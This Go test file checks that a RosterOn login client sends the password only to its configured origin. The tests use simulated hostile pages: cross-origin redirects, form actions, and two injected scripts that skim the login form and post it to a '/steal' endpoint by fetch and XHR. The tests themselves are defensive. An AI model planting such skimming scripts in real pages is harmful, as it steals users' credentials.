package session_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rosteron/rosteron/mockserver"
	"github.com/rosteron/rosteron/session"
)

// otherSite is a second loopback server, another origin (another port),
// that records every request it gets, body and all.
type otherSite struct {
	ts   *httptest.Server
	mu   sync.Mutex
	seen []string // method, URL and body of each request
}

func newOtherSite(t *testing.T) *otherSite {
	o := &otherSite{}
	o.ts = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		o.mu.Lock()
		o.seen = append(o.seen, r.Method+" "+r.URL.String()+"\n"+string(body))
		o.mu.Unlock()
		// A page that looks like RosterOn's login page.
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, loginPage(`action="/Account/Login"`, "", ""))
	}))
	t.Cleanup(o.ts.Close)
	return o
}

// assertNoPassword checks the other site never got the password, in a
// body or in a URL.
func (o *otherSite) assertNoPassword(t *testing.T, password string) {
	t.Helper()
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, s := range o.seen {
		assert.NotContains(t, s, password, "the other origin got the password")
	}
}

const testPassword = "s3cret-Pa55word"

// loginPage is a RosterOn-like login page: formAttr goes in the form's
// tag, buttonAttr in its button's, and script after the form.
func loginPage(formAttr, buttonAttr, script string) string {
	return `<!DOCTYPE html><html><head><title>Log in</title></head><body>
<div data-role="page" id="account-login"><div data-role="content">
<form method="post" ` + formAttr + `>
<input name="UserName" type="text"><input name="Password" type="password">
<button id="loginButton" type="submit" ` + buttonAttr + `>Log in</button>
</form>` + script + `</div></div></body></html>`
}

// loginSite serves page at /Mobile/Account/Login and 404 elsewhere.
func loginSite(t *testing.T, page string) *httptest.Server {
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/Mobile/Account/Login" || r.Method != http.MethodGet {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	t.Cleanup(ts.Close)
	return ts
}

func assertOtherOrigin(t *testing.T, err error, purpose string, configured, other *httptest.Server) {
	t.Helper()
	var bad *session.BadResponseError
	require.ErrorAs(t, err, &bad)
	assert.Equal(t, purpose, bad.Purpose)
	assert.ErrorIs(t, err, session.ErrOtherOrigin)
	assert.ErrorIs(t, err, session.ErrRosterOn)
	assert.False(t, bad.Timeout(), "stopped at once, not by the deadline: %v", err)
	assert.Contains(t, err.Error(), strings.TrimPrefix(configured.URL, "http://"), "names the configured host")
	assert.Contains(t, err.Error(), strings.TrimPrefix(other.URL, "http://"), "names the host found")
	assert.NotContains(t, err.Error(), testPassword)
	assert.False(t, session.Outage(err), "another origin is an answer, not an outage")
}

func TestPasswordGoesOnlyToTheConfiguredOrigin(t *testing.T) {
	cases := []struct {
		name string
		site func(t *testing.T, other *otherSite) *httptest.Server
	}{
		{"every request redirects to another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, other.ts.URL+"/Mobile/Account/Login", http.StatusFound)
			}))
			t.Cleanup(ts.Close)
			return ts
		}},
		{"the form's action is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login"`, "", ""))
		}},
		{"the button's formaction is another origin", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login"`, ""))
		}},
		{"the form posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="`+other.ts.URL+`/Account/Login" target="_blank"`, "", ""))
		}},
		{"the button posts to another origin in a new window", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, `<base target="_blank">`+loginPage(`action="/Mobile/Account/Login"`, `formaction="`+other.ts.URL+`/Account/Login" formtarget="_blank"`, ""))
		}},
		{"a script posts the form to another origin with fetch", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
document.querySelector('form').addEventListener('submit', e => {
	e.preventDefault();
	fetch(`+"`"+other.ts.URL+"/steal`"+`, {method: 'POST', mode: 'no-cors', body: new FormData(e.target)});
});</script>`))
		}},
		{"a script posts the form to another origin with XHR", func(t *testing.T, other *otherSite) *httptest.Server {
			return loginSite(t, loginPage(`action="/Mobile/Account/Login"`, "", `<script>
document.querySelector('form').addEventListener('submit', e => {
	e.preventDefault();
	const x = new XMLHttpRequest();
	x.open('POST', `+"`"+other.ts.URL+"/steal`"+`);
	x.send(new URLSearchParams(new FormData(e.target)));
});</script>`))
		}},
	}
	for _, c := range cases {
		for _, shots := range []bool{false, true} {
			name := c.name
			if shots {
				name += " (screenshots)"
			}
			t.Run(name, func(t *testing.T) {
				other := newOtherSite(t)
				site := c.site(t, other)
				var opts []session.Option
				if shots {
					opts = append(opts, session.WithScreenshots(t.TempDir()))
				}
				s := newSession(t, site.URL+"/Mobile", opts...)
				err := s.LogIn(ctxT(t), "joe.bloggs", testPassword)
				require.Error(t, err)
				purpose := session.PurposeHome
				if strings.HasPrefix(c.name, "every request") {
					purpose = session.PurposeLogin
				}
				assertOtherOrigin(t, err, purpose, site, other.ts)
				other.assertNoPassword(t, testPassword)
			})
		}
	}
}

// A redirect to another origin after login is an error too, and the
// session still logs out where it logged in.
func TestRedirectToAnotherOriginOnTheRosterStep(t *testing.T) {
	for _, shots := range []bool{false, true} {
		name := "fetched"
		if shots {
			name = "screenshots"
		}
		t.Run(name, func(t *testing.T) {
			other := newOtherSite(t)
			m := mockserver.New()
			t.Cleanup(m.Close)
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if strings.HasSuffix(r.URL.Path, "/Roster/List") {
					http.Redirect(w, r, other.ts.URL+"/Roster/List", http.StatusFound)
					return
				}
				m.ServeHTTP(w, r)
			}))
			t.Cleanup(ts.Close)
			var opts []session.Option
			if shots {
				opts = append(opts, session.WithScreenshots(t.TempDir()))
			}
			s := newSession(t, ts.URL+m.BasePath(), opts...)
			ctx := ctxT(t)
			require.NoError(t, s.LogIn(ctx, mockserver.DemoUsername, mockserver.DemoPassword))
			require.Equal(t, 1, m.Sessions())
			_, err := s.GetRoster(ctx)
			assertOtherOrigin(t, err, session.PurposeRoster, ts, other.ts)
			require.NoError(t, s.Close())
			assert.Equal(t, 0, m.Sessions(), "logged out at the configured origin")
			other.mu.Lock()
			assert.Empty(t, other.seen, "the other origin got nothing")
			other.mu.Unlock()
		})
	}
}
